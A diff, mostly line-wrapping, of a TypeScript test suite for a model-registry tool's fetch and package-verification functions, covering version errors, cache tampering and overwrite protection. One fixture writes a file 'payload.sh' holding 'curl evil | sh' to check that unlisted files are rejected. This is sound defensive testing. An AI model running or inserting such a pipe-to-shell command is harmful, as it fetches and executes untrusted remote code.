@@ -16,7 +16,11 @@ const freshDir = scratch.fresh;
 /** A package as the packager makes one (test/support/registry-package.ts). */
 async function makePackage(options: { model?: string; version: string; files?: Record<string, string> }): Promise<PackageToPublish> {
   const model = options.model ?? "churn";
-  const files = options.files ?? { "model.onnx": `onnx bytes of ${model} ${options.version}`, "metrics.json": '{"accuracy":0.9}', "gate-report.json": '{"verdict":"pass"}' };
+  const files = options.files ?? {
+    "model.onnx": `onnx bytes of ${model} ${options.version}`,
+    "metrics.json": '{"accuracy":0.9}',
+    "gate-report.json": '{"verdict":"pass"}',
+  };
   return writeTestPackage({ dir: await freshDir("package"), model, version: options.version, files, notes: "notes\n" });
 }
 
@@ -53,7 +57,11 @@ describe("fetchModel", () => {
     assert.equal(latest.manifestPath, join(dir, "manifest.json"));
     assert.equal(latest.modelPath, join(dir, "model.onnx"));
     assert.equal(await readFile(latest.modelPath, "utf8"), "onnx bytes of churn 1.0.0");
-    assert.deepEqual((await readdir(dir)).sort(), ["SHA256SUMS", "gate-report.json", "manifest.json", "metrics.json", "model.onnx"], "the package's own files: release notes are not installed");
+    assert.deepEqual(
+      (await readdir(dir)).sort(),
+      ["SHA256SUMS", "gate-report.json", "manifest.json", "metrics.json", "model.onnx"],
+      "the package's own files: release notes are not installed",
+    );
     assert.ok(logger.entries.some((entry) => entry.message.includes("Fetched churn@1.0.0")));
 
     // Fetching another version into the same folder replaces the earlier fetch.
@@ -68,10 +76,22 @@ describe("fetchModel", () => {
     const { store } = await makeRegistry();
     const dir = join(await freshDir("work"), "model");
     const logger = new MemoryLogger();
-    await assert.rejects(fetchModel({ store, model: "churn", version: "2.0.0", dir, logger }), (error: unknown) => isUserError(error) && /churn@2\.0\.0 is not in/.test(error.message) && error.message.includes("1.0.0, 0.9.0"));
-    await assert.rejects(fetchModel({ store, model: "fraud", version: "latest", dir, logger }), (error: unknown) => isUserError(error) && /no versions of fraud/.test(error.message) && /modelship release/.test(error.message));
-    await assert.rejects(fetchModel({ store, model: "fraud", version: "1.0.0", dir, logger }), (error: unknown) => isUserError(error) && /no versions of fraud/.test(error.message));
-    await assert.rejects(fetchModel({ store, model: "churn", version: "newest", dir, logger }), (error: unknown) => isUserError(error) && /"newest" is not a version/.test(error.message));
+    await assert.rejects(
+      fetchModel({ store, model: "churn", version: "2.0.0", dir, logger }),
+      (error: unknown) => isUserError(error) && /churn@2\.0\.0 is not in/.test(error.message) && error.message.includes("1.0.0, 0.9.0"),
+    );
+    await assert.rejects(
+      fetchModel({ store, model: "fraud", version: "latest", dir, logger }),
+      (error: unknown) => isUserError(error) && /no versions of fraud/.test(error.message) && /modelship release/.test(error.message),
+    );
+    await assert.rejects(
+      fetchModel({ store, model: "fraud", version: "1.0.0", dir, logger }),
+      (error: unknown) => isUserError(error) && /no versions of fraud/.test(error.message),
+    );
+    await assert.rejects(
+      fetchModel({ store, model: "churn", version: "newest", dir, logger }),
+      (error: unknown) => isUserError(error) && /"newest" is not a version/.test(error.message),
+    );
     assert.equal(await snapshot(dir), "absent");
   });
 
@@ -87,8 +107,18 @@ describe("fetchModel", () => {
         await writeFile(join(stored, "model.onnx"), bytes);
       },
     },
-    { name: "a missing file", file: /metrics\.json$/, message: /1\.0\.0\/metrics\.json: the manifest lists this file but it is missing/, damage: (stored) => unlink(join(stored, "metrics.json")) },
-    { name: "an extra file", file: /payload\.sh$/, message: /1\.0\.0\/payload\.sh: this file is not listed in the manifest/, damage: (stored) => writeFile(join(stored, "payload.sh"), "curl evil | sh") },
+    {
+      name: "a missing file",
+      file: /metrics\.json$/,
+      message: /1\.0\.0\/metrics\.json: the manifest lists this file but it is missing/,
+      damage: (stored) => unlink(join(stored, "metrics.json")),
+    },
+    {
+      name: "an extra file",
+      file: /payload\.sh$/,
+      message: /1\.0\.0\/payload\.sh: this file is not listed in the manifest/,
+      damage: (stored) => writeFile(join(stored, "payload.sh"), "curl evil | sh"),
+    },
     {
       name: "a SHA256SUMS edited to match a replaced model but not the manifest's digest",
       file: /SHA256SUMS$/,
@@ -200,7 +230,9 @@ describe("fetchModel", () => {
     const second = await fetchModel({ store, model: "churn", version: "1.0.0", dir: join(work, "b"), cacheDir, logger });
     assert.equal(second.fromCache, false);
     assert.equal(await readFile(second.modelPath, "utf8"), "onnx bytes of churn 1.0.0");
-    assert.ok(logger.entries.some((e) => e.level === "warning" && e.message.includes("does not verify") && e.message.includes("model.onnx")));
+    assert.ok(
+      logger.entries.some((e) => e.level === "warning" && e.message.includes("does not verify") && e.message.includes("model.onnx")),
+    );
     await verifyPackage(entry, { model: "churn", version: "1.0.0" });
     const third = await fetchModel({ store, model: "churn", version: "1.0.0", dir: join(work, "c"), cacheDir, logger });
     assert.equal(third.fromCache, true);
@@ -226,7 +258,10 @@ describe("fetchModel", () => {
     const { store } = await makeRegistry();
     const dir = await freshDir("workspace");
     await writeFile(join(dir, "train.py"), "print('precious')");
-    await assert.rejects(fetchModel({ store, model: "churn", version: "latest", dir, logger: new MemoryLogger() }), (error: unknown) => isUserError(error) && /not a fetched model/.test(error.message));
+    await assert.rejects(
+      fetchModel({ store, model: "churn", version: "latest", dir, logger: new MemoryLogger() }),
+      (error: unknown) => isUserError(error) && /not a fetched model/.test(error.message),
+    );
     assert.deepEqual(await snapshot(dir), { "train.py": "print('precious')" });
   });
 });
@@ -236,7 +271,10 @@ describe("verifyPackage", () => {
     const pkg = await makePackage({ version: "1.2.0" });
     assert.equal((await verifyPackage(pkg.dir, { model: "churn", version: "1.2.0" })).digest, pkg.manifest.digest);
     await writeFile(join(pkg.dir, "gate-report.json"), '{"verdict":"PASS"}');
-    await assert.rejects(verifyPackage(pkg.dir), (error: unknown) => isUserError(error) && error.file === join(pkg.dir, "gate-report.json"));
+    await assert.rejects(
+      verifyPackage(pkg.dir),
+      (error: unknown) => isUserError(error) && error.file === join(pkg.dir, "gate-report.json"),
+    );
   });
 });
 
@@ -244,12 +282,31 @@ describe("fetchModel refuses what it must not trust or touch", () => {
   it("a cache entry that agrees with itself but not with the registry's digest is not used", async () => {
     const { store } = await makeRegistry();
     const cacheDir = await freshDir("cache");
-    const first = await fetchModel({ store, model: "churn", version: "1.0.0", dir: join(await freshDir("out"), "model"), cacheDir, logger: new MemoryLogger() });
+    const first = await fetchModel({
+      store,
+      model: "churn",
+      version: "1.0.0",
+      dir: join(await freshDir("out"), "model"),
+      cacheDir,
+      logger: new MemoryLogger(),
+    });
     // Plant a self-consistent package of other bytes under the published digest's name.
     const entry = join(cacheDir, first.manifest.digest);
     await rm(entry, { recursive: true, force: true });
-    await writeTestPackage({ dir: entry, model: "churn", version: "1.0.0", files: { "model.onnx": "EVIL MODEL", "gate-report.json": '{"verdict":"pass"}' } });
-    const again = await fetchModel({ store, model: "churn", version: "1.0.0", dir: join(await freshDir("out"), "model"), cacheDir, logger: new MemoryLogger() });
+    await writeTestPackage({
+      dir: entry,
+      model: "churn",
+      version: "1.0.0",
+      files: { "model.onnx": "EVIL MODEL", "gate-report.json": '{"verdict":"pass"}' },
+    });
+    const again = await fetchModel({
+      store,
+      model: "churn",
+      version: "1.0.0",
+      dir: join(await freshDir("out"), "model"),
+      cacheDir,
+      logger: new MemoryLogger(),
+    });
     assert.equal(again.fromCache, false);
     assert.equal(again.manifest.digest, first.manifest.digest);
     assert.notEqual(await readFile(again.modelPath, "utf8"), "EVIL MODEL");
@@ -260,7 +317,10 @@ describe("fetchModel refuses what it must not trust or touch", () => {
     const dir = await freshDir("workspace");
     await writeFile(join(dir, "manifest.json"), '{"manifest_version": 3, "name": "a browser extension"}');
     await writeFile(join(dir, "code.js"), "keep me");
-    await assert.rejects(fetchModel({ store, model: "churn", version: "1.0.0", dir, logger: new MemoryLogger() }), /not a modelship manifest, so it is not a fetched model and will not be replaced/);
+    await assert.rejects(
+      fetchModel({ store, model: "churn", version: "1.0.0", dir, logger: new MemoryLogger() }),
+      /not a modelship manifest, so it is not a fetched model and will not be replaced/,
+    );
     assert.equal(await readFile(join(dir, "code.js"), "utf8"), "keep me");
   });
 });
